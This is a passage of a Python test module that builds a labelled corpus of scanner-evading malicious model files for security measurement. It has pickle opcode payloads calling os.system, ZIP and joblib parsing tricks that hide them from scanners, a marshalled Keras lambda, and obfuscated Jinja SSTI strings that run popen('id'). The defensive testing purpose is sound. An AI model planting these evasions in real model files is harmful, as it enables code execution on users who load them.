"""A labelled corpus of public scanner bypasses and real benign dumps, for issue #19's measurement.

Every malicious file here follows a public advisory or write-up (named in ``source``) and is built
from bytes: hand-written pickle opcodes, zip/7z/LZ4/zstd containers written by hand, JSON configs.
Nothing in this module unpickles or calls a payload; pickling a reference does not call it, and the
payloads only name harmless commands (``touch /tmp/aihost-pwned``, ``id``) and 127.0.0.1.

Each sample is a ``model_corpus.Sample`` with two more attributes:

``cls``
    1-loader-parity   the file is read differently by the loader than by a scanner (framing,
                      concatenated pickles, joblib array bytes, zip quirks that torch ignores)
    2-deny-list       a callable a deny list forgets (file writes, network, exec by another name)
    3-text-search     code hidden from a text search (JSON escapes, Jinja built from pieces)
    4-crash           a file that makes a parser give up; a finding read before the failure counts
    5-compression     a container the standard library cannot open (LZ4, 7z, zstd)
    6-real-benign     what the real libraries write (tests/unit/fixtures/models/real/) and
                      torch/safetensors/GGUF shapes with real public chat templates
    baseline          classic cases, so the numbers line up with other tools' own tests
``source``
    the advisory or write-up the case follows (GHSA/CVE id, vendor write-up, fickling issue), or
    how a benign file was produced.

``expect`` is what loading the file would do: ``malicious`` (runs code, writes files or connects
out), ``suspicious`` (unknown code, or a file no loader reads as-is) or ``clean``. Samples whose
pickle stream a plain ``pickle.load`` reaches have ``reaches`` (the dangerous global) and
``stream`` (the bytes the unpickler sees), so a test can prove the expectation without running it.
"""
import base64
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import zipfile
import zlib

from model_corpus import (Sample, gguf, joblib_pickle, npy, npz, safetensors, stand_in_modules, torch_legacy,
                          torch_state_dict_pickle, torch_zip, write_samples)

HERE = os.path.dirname(os.path.abspath(__file__))
REAL_DIR = os.path.join(HERE, "fixtures", "models", "real")
REAL_MADE_WITH = "generated with scikit-learn 1.6.1, joblib 1.5.3, numpy 1.26.4 (fixtures/models/real/make_real.py)"
CMD = "touch /tmp/aihost-pwned"


# ---------------------------------------------------------------------------------------------
# Pickle opcodes, written by hand
# ---------------------------------------------------------------------------------------------
class G(object):
    """A global reference: GLOBAL (protocols 0-3) or STACK_GLOBAL (4+)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call(object):
    """func(*args): func is a G or another Call; args are plain values, G or Call."""

    def __init__(self, func, *args):
        self.func, self.args = func, args


def _su(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _value(value, proto):
    """Opcodes that push one plain value, as the standard pickler writes them (no PROTO, FRAME, STOP)."""
    data = pickle.dumps(value, protocol=proto)
    if proto >= 2:
        data = data[2:]
    if proto >= 4 and data[:1] == b"\x95":
        data = data[9:]
    return data[:-1]


def ops(expr, proto=2):
    if isinstance(expr, G):
        if proto >= 4:
            return _su(expr.module) + _su(expr.name) + b"\x93"
        return b"c%s\n%s\n" % (expr.module.encode(), expr.name.encode())
    if isinstance(expr, Call):
        return ops(expr.func, proto) + b"(" + b"".join(ops(a, proto) for a in expr.args) + b"tR"
    return _value(expr, proto)


def dumps(expr, proto=2, header=True):
    """A whole pickle: PROTO (unless header=False), the expression, STOP."""
    head = b"\x80" + bytes([proto]) if header and proto >= 2 else b""
    return head + ops(expr, proto) + b"."


def _first_global(expr):
    """The first global an unpickler resolves for ``expr`` (opcodes are emitted callable first)."""
    while isinstance(expr, Call):
        expr = expr.func
    return expr


def call(module, name, *args):
    return Call(G(module, name), *args)


def _frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


# ---------------------------------------------------------------------------------------------
# Containers
# ---------------------------------------------------------------------------------------------
def _zip(members, method=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


def _torch_members(data_pkl, name="archive", pickle_name="data.pkl"):
    return [("%s/%s" % (name, pickle_name), data_pkl), ("%s/byteorder" % name, b"little"),
            ("%s/data/0" % name, struct.pack("<16f", *range(16))), ("%s/data/1" % name, struct.pack("<4f", 1, 2, 3, 4)),
            ("%s/version" % name, b"3\n")]


def _patch_zip(data, member, local=None, central=None):
    """Patch one member's headers: local/central are {offset_in_header: bytes} (after the signature)."""
    out = bytearray(data)
    name = member.encode()
    for signature, patches in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        start = 0
        while patches:
            start = out.find(signature, start)
            if start < 0:
                raise ValueError("member %s not found" % member)
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if out[name_at:name_at + len(name)] == name:
                for offset, value in patches.items():
                    out[start + offset:start + offset + len(value)] = value
                break
            start += 4
    return bytes(out)


def _zip_member_data_offset(data, member):
    start = data.find(b"PK\x03\x04")
    while start >= 0:
        name_len, extra_len = struct.unpack("<HH", data[start + 26:start + 30])
        if data[start + 30:start + 30 + name_len] == member.encode():
            return start + 30 + name_len + extra_len
        start = data.find(b"PK\x03\x04", start + 4)
    raise ValueError(member)


def _xxh32(data, seed=0):
    primes = (2654435761, 2246822519, 3266489917, 668265263, 374761393)
    mask = 0xFFFFFFFF

    def rotl(value, count):
        return ((value << count) | (value >> (32 - count))) & mask

    length, pos = len(data), 0
    if length >= 16:
        lanes = [(seed + primes[0] + primes[1]) & mask, (seed + primes[1]) & mask, seed & mask, (seed - primes[0]) & mask]
        while pos <= length - 16:
            for lane in range(4):
                word = struct.unpack("<I", data[pos:pos + 4])[0]
                lanes[lane] = (rotl((lanes[lane] + word * primes[1]) & mask, 13) * primes[0]) & mask
                pos += 4
        acc = (rotl(lanes[0], 1) + rotl(lanes[1], 7) + rotl(lanes[2], 12) + rotl(lanes[3], 18)) & mask
    else:
        acc = (seed + primes[4]) & mask
    acc = (acc + length) & mask
    while pos + 4 <= length:
        acc = (rotl((acc + struct.unpack("<I", data[pos:pos + 4])[0] * primes[2]) & mask, 17) * primes[3]) & mask
        pos += 4
    while pos < length:
        acc = (rotl((acc + data[pos] * primes[4]) & mask, 11) * primes[0]) & mask
        pos += 1
    acc ^= acc >> 15
    acc = (acc * primes[1]) & mask
    acc ^= acc >> 13
    acc = (acc * primes[2]) & mask
    acc ^= acc >> 16
    return acc


def _lz4_block(data):
    """A greedy LZ4 block compressor (format spec: min match 4, last 5 bytes literal, no match in the last 12)."""
    out, table, anchor, pos = bytearray(), {}, 0, 0

    def lengths(value):
        extra = bytearray()
        value -= 15
        while value >= 255:
            extra.append(255)
            value -= 255
        extra.append(value)
        return bytes(extra)

    while pos + 12 <= len(data):
        key = data[pos:pos + 4]
        candidate = table.get(key)
        table[key] = pos
        if candidate is None or pos - candidate > 65535:
            pos += 1
            continue
        match = 4
        while pos + match < len(data) - 5 and data[candidate + match] == data[pos + match]:
            match += 1
        literals = data[anchor:pos]
        token = (min(len(literals), 15) << 4) | min(match - 4, 15)
        out.append(token)
        if len(literals) >= 15:
            out += lengths(len(literals))
        out += literals + struct.pack("<H", pos - candidate)
        if match - 4 >= 15:
            out += lengths(match - 4)
        pos += match
        anchor = pos
    literals = data[anchor:]
    out.append(min(len(literals), 15) << 4)
    if len(literals) >= 15:
        out += lengths(len(literals))
    return bytes(out + literals)


def lz4_frame(data, compress=False):
    """An LZ4 frame (magic 0x184D2204, the prefix joblib's lz4 compressor writes). Blocks are stored
    uncompressed (size with the high bit set) unless ``compress``."""
    descriptor = bytes([0x60, 0x40])  # version 01, independent blocks; max block size 64 KiB
    out = struct.pack("<I", 0x184D2204) + descriptor + bytes([(_xxh32(descriptor) >> 8) & 0xFF])
    if compress:
        block = _lz4_block(data)
        out += struct.pack("<I", len(block)) + block
    else:
        out += struct.pack("<I", len(data) | 0x80000000) + data
    return out + struct.pack("<I", 0)


def zstd_frame(data, split=None):
    """A zstd frame of raw (stored) blocks: one block, or two split at ``split`` (a block header then
    sits inside the payload)."""
    if len(data) > 255:
        raise ValueError("keep zstd payloads under 256 bytes (one-byte frame content size)")
    frame = b"\x28\xb5\x2f\xfd" + bytes([0x20, len(data)])  # single segment, 1-byte content size
    blocks = [data] if split is None else [data[:split], data[split:]]
    for index, block in enumerate(blocks):
        last = 1 if index == len(blocks) - 1 else 0
        frame += struct.pack("<I", (len(block) << 3) | last)[:3] + block  # block type 0: raw
    return frame


def _sevenzip_number(value):
    if value < 0x80:
        return bytes([value])
    if value < 0x4000:
        return bytes([0x80 | (value >> 8), value & 0xFF])
    raise ValueError("7z number too large for this writer")


def sevenzip_stored(name, data):
    """A minimal 7z archive holding one file with the Copy coder (the content stays readable)."""
    encoded_name = name.encode("utf-16-le") + b"\x00\x00"
    header = (b"\x01\x04\x06" + _sevenzip_number(0) + _sevenzip_number(1) + b"\x09" + _sevenzip_number(len(data)) + b"\x00"
              + b"\x07\x0b" + _sevenzip_number(1) + b"\x00" + _sevenzip_number(1) + b"\x01\x00"
              + b"\x0c" + _sevenzip_number(len(data)) + b"\x00"
              + b"\x08\x00"  # SubStreamsInfo: one stream per folder
              + b"\x00"
              + b"\x05" + _sevenzip_number(1) + b"\x11" + _sevenzip_number(len(encoded_name) + 1) + b"\x00" + encoded_name
              + b"\x00\x00")
    start_header = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start_header)) + start_header + data + header


# ---------------------------------------------------------------------------------------------
# Keras and HDF5
# ---------------------------------------------------------------------------------------------
def _marshalled_lambda():
    """base64(marshal(code of a lambda)): the way Keras stores a Lambda layer's function. Compiled, never run."""
    code = compile("lambda x: __import__('os').system('%s') or x" % CMD, "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def _keras_layer(module, class_name, config, **extra):
    layer = {"module": module, "class_name": class_name, "config": config, "registered_name": None}
    layer.update(extra)
    return layer


def keras_v3(layers, functional=False):
    """A Keras 3 .keras zip: config.json, metadata.json (no weights: the config runs first on load)."""
    config = {"name": "model", "trainable": True,
              "layers": [_keras_layer("keras.layers", "InputLayer",
                                      {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"})] + layers}
    model = {"module": "keras", "class_name": "Functional" if functional else "Sequential", "config": config,
             "registered_name": None}
    metadata = {"keras_version": "3.8.0", "date_saved": "2025-03-01@12:00:00"}
    return model, metadata


def keras_zip(model, metadata, rewrite=None):
    text = json.dumps(model)
    for old, new in (rewrite or {}).items():
        if old not in text:
            raise ValueError("nothing to rewrite: %s" % old)
        text = text.replace(old, new)
    return _zip([("metadata.json", json.dumps(metadata)), ("config.json", text)], zipfile.ZIP_DEFLATED)


# Legacy Keras 2 HDF5 files with a Lambda layer in the root attribute model_config, written with
# h5py 3.16.0 (HDF5 2.0.0, libver="earliest") in the benchmark's venv and stored here zlib+base64:
#   f.attrs["keras_version"] = "2.15.0"; f.attrs["backend"] = "tensorflow"; f.create_group("model_weights")
#   f.attrs["model_config"] = json.dumps(Sequential[InputLayer, Lambda(function=[_marshalled_lambda(), None, None])])
# The "escaped" one writes the class name as "\u004cambda" and the layer name as "\u006cambda".
H5_LAMBDA = {
    "plain": (
        "eNrtWMtO20AUdaBCaQQVVRFqu4q8LaIJgQoqITHO0zgNcRKRUITM2HGcNH5AbCcFFKlL+gdddtllP6Of1B2dscfBthq1qip10TmS5zJn7mPsuR"
        "OJ87FSKK2knqcYjGSSecCsMmHcERw8jc6D9XNiE8TeEvtlIeCXvDUSjrL7+dOL/rxP+FajWMTedzEEdb6v+zbJUPyPqBRBHdsOmQf99G0h6mdY"
        "XVWXJupA6zt2qC8P/rBu0K+3T/z5V8IvMxXS34+YNdSVQ3UEbWmsjuyBZSL+WSLhRa7O9pCM3JMlnHPx/u6U80fVBEMCYn4YW5vZnc0MwwSvmy"
        "LWUU3bGvV0a+LPSUrmIfnjhlV0aNuSCQ2VfZ1mm+qlq5rOAOrsRppVLLM30BB/wwYOdsRBh1folRB/Gk/EmxeuU8XLsUQydJS+NMDLkt2HF9j7"
        "1HR1fSO9fYZcu86Vx7Fo09DJbeHwIKkflWWn0410vGAVGnIXztm1Plt0RnBgQlnHtDNy1TkVe66pOOio8ObY7UkRRPEGDwU87GYsNOY7oCJyEZ"
        "eyyF1oKE6wQ3xeAyKYi7dAMPD6ZbheBXA9wLVAflhoOVZeztVelXKNcbdds/j8XkbugPFJW7cQn6l2uJxsHA8FsQrz+l4PtrMTOXeY6WRfQs6s"
        "7Si5hi43h9yWVtpW/BraC03blcsl58Ro9Otji6+X3/fl9uHwpLVzxU2wC/bjrnkNGR6Ad81L8bhWFMqOiB5F4Ls8esDgaK8o1GsieoAgKoDTQO"
        "Haf4H9ffRB/QPG41no60rBl78/H3RBXe9wWEky0FFJEmYt1wn3i58tws5SjeAkHiHNkpJAONJcA3Ux7tyb6XR6Np3G7vWnZfqbSkFBQUFBQUFB"
        "QUHxb/A40Bli+tkyUS4STNLTGWSoDFWz+0t9IRXSFxYiesWKl8fXSfz/pJnf0CuwnhDkW/T4RETXC/Z/vubPP6yHdT1mrq5HQXW9sK4X6Luf16"
        "N+QR/W/1LdZu2okPBulY/dtWideB9T/Bw/AHj5V6M="),
    "escaped": (
        "eNrtWMtO20AUdUiFoggqqiLUdhV5W0QTEhBUQmKcN0lDnEQkFJAZO47jxg+I7aSAInVJd/2ELrvsZ/STuqMztgdsq1Grquqmc6SZm7lzH/O4Yy"
        "nnY6VQWk6+SDIYiQTziFlhgrjzsf8sPCbz576M+fLWl18WiH7RnfPdUXQvfirujYe+vtMqFrH1XQQkz/c1TyYYiv8RlSJoYtnzx6Sevi2E7XSz"
        "L2vCVFaVoW0F6nL/D/OSer196o2/+volpuLX92NmFVXlSB5DS5jIY0s1DaR/Hou5niv3a0iE3skijhl/eDvl/GE9xvgOETuMzY3M1kaaYch2k7"
        "60ZcMyxwPNnHrjODkf/8cNK2nQsgQD6jL7OsW25UtHNmwVaux6ipVMY6AqSH/DEgMrZKDBK7QlpD+JBqoaF45dx9ORQCK0paGg4mnBGsILbH1i"
        "OJq2nsqdIdO+feXqWLRoaGc3sTsJ6nll2NlsPRVNeOqk0zkJ6mIfzlk6tth+sLDHUDWgqOE5e+zIc3IPHEOy0aXhZbK5aRGE8QZ3BdztpE3U53"
        "ugwnMhkzLPXSjIr2YF9HkF8GAu3oKajucvg/kqgBsArgPyo0LHNvNitrFdyrYm/W7DrOZ302IPTI67mon06XqPy4r60ajG12Fe2x3AbmYqZg/S"
        "vcwryBmNLSnb0sT2iNtUSjnJy6G8VJQdsVyyj/XWsDkxq83y+6HYPRgdd7auuCk2wXbcdVVBogrAu/Ylf9Qo1so2j5pUq/arqAH1cLdYazZ41E"
        "CNlwCngMK1t4G9PXSg3lXj/ixwugI5+cgloffquDfECoKO7ksQsNZ07GD5eCFD2vt4YziNegj3QX1HOFYcHRU1LuSb2Wx2NpuR9/1piX5bKSgo"
        "KCgoKCgoKCj+LZ4QniHCny35zEWMSbg8gwilkWz0f8kvJAP8wkKIr1h243g8ifcnmvkNvgLzCSRe3NXHQrweWf/5qjf+sBbk9Zi5vB4F5fWCvB"
        "7hdz+vhe1IHTb/Ut5247AQc1+Vh53VcJ5oHVP8HD8Al/lb8Q=="),
}


def h5_lambda(kind):
    return zlib.decompress(base64.b64decode("".join(H5_LAMBDA[kind].split())))


# ---------------------------------------------------------------------------------------------
# Real public chat templates (the text HF tokenizer_config.json files carry; "\n" is Jinja's escape)
# ---------------------------------------------------------------------------------------------
TEMPLATES = {
    "llama3": (r"{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
               r"message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
               r"{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
               r"{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"),
    "chatml_qwen2": (r"{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
                     r"{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}"
                     r"{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
                     r"{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"),
    "mistral": (r"{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
                r"{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
                r"{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
                r"{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
                r"{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"),
    "gemma": (r"{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}"
              r"{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
              r"{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
              r"{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}"
              r"{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}"
              r"{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"),
}

SSTI_TEMPLATES = [
    ("hex_escaped_attr", r"{{ ''|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fmro\x5f\x5f')|last|attr('\x5f\x5fsubclasses\x5f\x5f')() }}",
     "hex escapes inside |attr() (no literal dunder in the file)"),
    ("dunder_by_concat", "{% set u = '_' * 2 %}{{ (cycler|attr(u ~ 'init' ~ u)|attr(u ~ 'globals' ~ u))['os'].popen('id').read() }}",
     "dunders built with '_'*2 ~ 'init' ~ '_'*2"),
    ("dunder_by_join", "{% set g = ('_','_','globals','_','_')|join %}{% set i = ('_','_','init','_','_')|join %}"
                       "{{ (joiner|attr(i)|attr(g)).os.popen('id').read() }}", "dunders assembled with |join"),
    ("request_attr", r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
                     r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id') }}",
     "request|attr chain (the Flask SSTI classic) with escaped names"),
    ("lipsum_globals", "{{ lipsum.__globals__['os'].popen('id').read() }}", "lipsum.__globals__ (literal dunders)"),
    ("lipsum_subscript_escaped", r"{{ lipsum['\x5f\x5fglobals\x5f\x5f']['os']['popen']('id')['read']() }}",
     "lipsum['\\x5f\\x5fglobals...'] through subscripts only"),
    ("cycler_init_globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "cycler.__init__.__globals__.os.popen"),
    ("template_reference_context", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
     "self._TemplateReference__context (name-mangled private attribute)"),
    ("namespace_unicode_escape", r"{{ namespace['\u005f\u005finit\u005f\u005f']['\u005f\u005fglobals\u005f\u005f'].os.system('id') }}",
     "\\u005f escapes on namespace"),
]


def _sample(samples, name, data, expect, note, cls, source, **extra):
    sample = Sample(name, data, expect, note)
    sample.cls = cls
    sample.source = source
    for key, value in extra.items():
        setattr(sample, key, value)
    samples.append(sample)
    return sample


# ---------------------------------------------------------------------------------------------
# Class 1: loader parity
# ---------------------------------------------------------------------------------------------
def _joblib_array_bytes_are_opcodes():
    """A joblib-shaped pickle whose 'array bytes' (read as float64 by joblib.load, skipped by a
    joblib-aware scanner) are opcodes to plain pickle.load: os.system(...) then POP, stack-neutral."""
    payload = ops(call("os", "system", CMD), 2) + b"0"
    if len(payload) % 2:
        payload = ops(call("os", "system", CMD + " "), 2) + b"0"
    while len(payload) % 8:
        payload += b"N0"  # NONE, POP: stack-neutral filler
    head = (b"\x80\x04}(" + _su("coef_") + ops(G("joblib.numpy_pickle", "NumpyArrayWrapper"), 4) + b")\x81"
            + b"}(" + _su("subclass") + ops(G("numpy", "ndarray"), 4) + _su("shape") + _value((len(payload) // 8,), 4)
            + _su("order") + _su("C") + _su("dtype") + ops(call("numpy", "dtype", "f8", False, True), 4)
            + b"(K\x03" + _su("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + _su("allow_mmap") + b"\x89ub")
    return head + payload + b"u."


def _joblib_dtype_elsize_mismatch():
    """joblib NumpyArrayWrapper whose dtype is 'V16' but whose dtype state says elsize 1: numpy
    honours the state (itemsize 1), so joblib.load reads 8 bytes of array and then unpickles the
    opcodes that follow; a scanner trusting the dtype string skips 8 x 16 bytes over them."""
    payload = ops(call("os", "system", CMD), 2) + b"0"
    fill = 8 * 16 - 8 - len(payload)
    if fill < 0 or fill % 2:
        payload = ops(call("os", "system", CMD + " "), 2) + b"0"
        fill = 8 * 16 - 8 - len(payload)
    after_array = payload + b"N0" * (fill // 2)
    head = (b"\x80\x04}(" + _su("coef_") + ops(G("joblib.numpy_pickle", "NumpyArrayWrapper"), 4) + b")\x81"
            + b"}(" + _su("subclass") + ops(G("numpy", "ndarray"), 4) + _su("shape") + _value((8,), 4)
            + _su("order") + _su("C") + _su("dtype") + ops(call("numpy", "dtype", "V16", False, True), 4)
            + b"(K\x03" + _su("|") + b"NNNK\x01K\x01K\x00tb" + _su("allow_mmap") + b"\x89ub")
    # data: what is on disk; stream: what joblib's unpickler parses (the 8 array bytes are read as data)
    return head + b"\x00" * 8 + after_array + b"u.", head + after_array + b"u."


def _joblib_object_array_nested(no_proto):
    """joblib object-dtype wrapper: joblib.load calls pickle.load on what follows (a nested pickle)."""
    inner = dumps(call("os", "system", CMD), 2, header=not no_proto)
    head = (b"\x80\x04}(" + _su("classes_") + ops(G("joblib.numpy_pickle", "NumpyArrayWrapper"), 4) + b")\x81"
            + b"}(" + _su("subclass") + ops(G("numpy", "ndarray"), 4) + _su("shape") + _value((1,), 4)
            + _su("order") + _su("C") + _su("dtype") + ops(call("numpy", "dtype", "O8", False, True), 4)
            + b"(K\x03" + _su("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb" + _su("allow_mmap") + b"\x89ub")
    return head + inner + b"u."


def _class1(samples):
    add = _sample
    cls = "1-loader-parity"
    evil = call("os", "system", CMD)
    body4 = ops(evil, 4) + b"."
    add(samples, "l1_frame_first.pkl", _frame(body4[:-1]) + b".", "malicious", "FRAME opcode first, no PROTO header", cls,
        "picklescan GHSA-9gvj-pp9x-gcfr (parser assumed a PROTO start)", reaches="os.system")
    add(samples, "l1_short_binunicode_first.pkl", body4, "malicious", "starts with SHORT_BINUNICODE, STACK_GLOBAL, no PROTO", cls,
        "picklescan GHSA-9gvj-pp9x-gcfr", reaches="os.system")
    add(samples, "l1_proto0_inst.pkl", b"(V%s\nios\nsystem\n." % CMD.encode(), "malicious",
        "protocol 0 starting with '(' MARK, INST calls os.system", cls, "fickling issue #190 / picklescan INST handling", reaches="os.system")
    add(samples, "l1_proto0_obj.pkl", b"(cposix\nsystem\nV%s\no." % CMD.encode(), "malicious",
        "protocol 0 MARK, GLOBAL posix.system, OBJ", cls, "JFrog: 'posix' alias of os in malicious HF models", reaches="posix.system")
    add(samples, "l1_proto0_text_c.pkl", b"cos\nsystem\n(V%s\ntR." % CMD.encode(), "malicious",
        "protocol 0 text starting with 'c' GLOBAL", cls, "Sonatype malicious-model write-up (plain protocol 0)", reaches="os.system")
    benign = pickle.dumps({"lr": 0.001, "epochs": 3}, protocol=2)
    add(samples, "l1_concat_second_frame.pkl", benign + _frame(body4[:-1]) + b".", "malicious",
        "benign pickle, then a 2nd pickle starting with FRAME that calls os.system", cls,
        "picklescan GHSA-9gvj-pp9x-gcfr / fickling StackedPickle", reaches="os.system")
    add(samples, "l1_concat_second_text.pkl", benign + b"cos\nsystem\n(V%s\ntR." % CMD.encode(), "malicious",
        "benign pickle, then a protocol 0 pickle (starts with 'c')", cls, "picklescan GHSA-9gvj-pp9x-gcfr", reaches="os.system")
    add(samples, "l1_concat_third_inst.pkl", benign + benign + b"(V%s\nios\nsystem\n." % CMD.encode(), "malicious",
        "two benign pickles, a third starting with '(' INST", cls, "picklescan GHSA-9gvj-pp9x-gcfr", reaches="os.system")
    state = torch_state_dict_pickle(protocol=2)
    legacy_parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
                    pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                  "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
                    b"cos\nsystem\n(V%s\ntR." % CMD.encode(), pickle.dumps(["0", "1"], protocol=2)]
    add(samples, "l1_legacy_torch_noproto.pt", b"".join(legacy_parts) + struct.pack("<q", 0), "malicious",
        "legacy torch.save sequence whose main object pickle has no PROTO", cls, "CVE-2025-1889 family (legacy torch format)")
    stream = _joblib_array_bytes_are_opcodes()
    add(samples, "l1_joblib_array_is_opcodes.pkl", stream, "malicious",
        "joblib layout; the float64 'array bytes' are os.system opcodes when the file is read by plain pickle.load", cls,
        "JFrog 'joblib/pickle loader parity' write-up; picklescan GHSA-9gvj-pp9x-gcfr", reaches="os.system")
    on_disk, parsed = _joblib_dtype_elsize_mismatch()
    add(samples, "l1_joblib_dtype_elsize.joblib", on_disk, "malicious",
        "joblib wrapper dtype 'V16' with state elsize 1: joblib reads 8 bytes, then unpickles os.system", cls,
        "numpy dtype __setstate__ elsize (fickling issue: joblib NumpyArrayWrapper parity)", reaches="os.system", stream=parsed)
    add(samples, "l1_joblib_object_nested_noproto.joblib", _joblib_object_array_nested(True), "malicious",
        "joblib object-dtype array: joblib.load pickle.loads the bytes after the wrapper; nested pickle has no PROTO", cls,
        "joblib numpy_pickle.read_array (object arrays) / picklescan GHSA-9gvj-pp9x-gcfr", reaches="os.system")
    evil_obj = dumps(evil, 2)
    add(samples, "l1_npy_descr_object.npy", npy("object", (1,), evil_obj), "malicious", "npy descr 'object' (not '|O')", cls,
        "modelscan numpy scanner checks descr == '|O' only")
    add(samples, "l1_npy_descr_O8.npy", npy("O8", (1,), evil_obj), "malicious", "npy descr 'O8'", cls,
        "modelscan numpy scanner checks descr == '|O' only")
    add(samples, "l1_npy_struct_object.npy", npy([("x", "O")], (1,), evil_obj), "malicious",
        "npy structured dtype [('x','O')] (hasobject: np.load unpickles)", cls, "numpy format.read_array hasobject path")
    add(samples, "l1_npz_member_no_suffix.npz", npz([("weights", npy("|O", (1,), evil_obj))]), "malicious",
        "npz member 'weights' without .npy suffix; NpzFile still read_array()s it (magic check)", cls,
        "numpy NpzFile.__getitem__ (magic, not suffix)")
    add(samples, "l1_npz_member_bin.npz", npz([("a.npy", npy("<f8", (2,), struct.pack("<2d", 1, 2))),
                                               ("b.bin", npy("object", (1,), evil_obj))]), "malicious",
        "npz member 'b.bin' holding an object npy", cls, "numpy NpzFile.__getitem__ (magic, not suffix)")
    evil_state = torch_state_dict_pickle(extra=call_obj_reducer())
    add(samples, "l1_torch_constants_pkl.pt", _zip(_torch_members(state) + [("archive/constants.pkl", evil_obj)]), "malicious",
        "torch zip: clean data.pkl, os.system in constants.pkl (torch.jit.load unpickles it)", cls,
        "CVE-2025-1889 (picklescan only scanned data.pkl-like names)")
    add(samples, "l1_torch_custom_pickle_name.pt", _zip(_torch_members(evil_state, pickle_name="model.pkl")), "malicious",
        "torch zip whose pickle member is archive/model.pkl (torch.load(..., pickle_file='model.pkl'))", cls, "CVE-2025-1889")
    add(samples, "l1_torch_pickle_no_ext.bin", _zip(_torch_members(evil_state, name="pytorch_model", pickle_name="data")),
        "malicious", "torch zip with the pickle member named 'data' (no .pkl)", cls, "CVE-2025-1889, fickling scan_zip_archive extensions")
    good = _zip(_torch_members(evil_state))
    bad_crc = _patch_zip(good, "archive/data.pkl", local={14: b"\xde\xad\xbe\xef"}, central={16: b"\xde\xad\xbe\xef"})
    add(samples, "l1_torch_bad_crc.pt", bad_crc, "malicious", "torch zip, data.pkl CRC wrong: zipfile raises, torch ignores CRCs", cls,
        "CVE-2025-10156 (picklescan, JFrog)")
    renamed = _patch_zip(good, "archive/data.pkl", local={30: b"archive/data.pkX"})
    add(samples, "l1_torch_name_mismatch.pt", renamed, "malicious",
        "local header name differs from the central directory's: zipfile raises, torch reads by the central directory", cls,
        "CVE-2025-1944 (picklescan ZIP header mismatch)")
    flag_patch = _patch_zip(good, "archive/data.pkl", central={8: b"\x20\x00"})
    add(samples, "l1_torch_flag_patched.pt", flag_patch, "malicious",
        "central-directory flag bit 5 (compressed patched data): zipfile raises NotImplementedError; torch loads", cls,
        "CVE-2025-1945 (picklescan ZIP flag bits)")
    flag_encrypted = _patch_zip(good, "archive/data.pkl", central={8: b"\x01\x00"})
    add(samples, "l1_torch_flag_encrypted.pt", flag_encrypted, "malicious",
        "central-directory encryption bit set on a stored, unencrypted data.pkl: zipfile wants a password; torch loads", cls,
        "CVE-2025-1945 (picklescan ZIP flag bits)")


def call_obj_reducer():
    """An object whose pickle is a REDUCE of os.system (the reference is pickled, never called)."""
    class Payload(object):
        def __reduce__(self):
            return os.system, (CMD,)
    return Payload()


# ---------------------------------------------------------------------------------------------
# Class 2: deny-list bypasses
# ---------------------------------------------------------------------------------------------
def _class2(samples):
    cls = "2-deny-list"
    code = "import os; os.system('%s')" % CMD
    inner = dumps(call("os", "system", CMD), 2)
    cases = [
        ("d2_scipy_fortranfile.pkl", call("scipy.io", "FortranFile", "/tmp/aihost-pwned", "w"), 2, "malicious",
         "scipy.io.FortranFile(path, 'w') truncates/creates a file", "picklescan GHSA-f7qq-56ww-84cr (scipy file write)"),
        ("d2_torch_tcpstore.pt", call("torch.distributed", "TCPStore", "127.0.0.1", 9, 1, False), 2, "malicious",
